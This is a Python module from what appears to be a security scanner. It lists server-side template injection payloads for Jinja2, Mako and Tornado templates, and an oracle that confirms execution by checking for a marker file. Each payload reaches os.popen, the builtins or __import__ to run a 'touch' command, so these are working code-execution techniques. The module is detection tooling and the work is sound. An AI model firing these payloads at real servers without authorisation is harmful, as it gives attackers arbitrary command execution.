"""Texts that are run as templates: what is known of the engines of Python."""

from __future__ import annotations

from buckler.finding.evidence import ProofKind
from buckler.prove.model import Oracle, Probe, filled, texts
from buckler.prove.watches import MARKER

ATTACKS = filled(
    (
        "{{{{cycler.__init__.__globals__.os.popen('touch {marker}').read()}}}}",
        "reaches the os module from a template",
    ),
    (
        "{{{{self.__init__.__globals__.__builtins__.__import__('pathlib').Path('{marker}').touch()}}}}",
        "reaches the builtins",
    ),
    (
        (
            "{{{{''.__class__.__mro__[1].__subclasses__()|map(attribute='__init__')|list}}}}"
            "{{{{lipsum.__globals__['os'].popen('touch {marker}').read()}}}}"
        ),
        "walks through classes",
    ),
    ("${{__import__('pathlib').Path('{marker}').touch()}}", "an expression of Mako"),
    ("<% __import__('pathlib').Path('{marker}').touch() %>", "a block of Mako"),
    ("{{% import os %}}{{{{os.popen('touch {marker}').read()}}}}", "an import of Tornado"),
)
TEMPLATE = Oracle(
    ProofKind.EXPLOIT,
    "the input was run as a template and left a file behind",
    Probe(MARKER),
    ATTACKS,
    texts(("report", "a plain word"), ("a1", "a short word")),
)
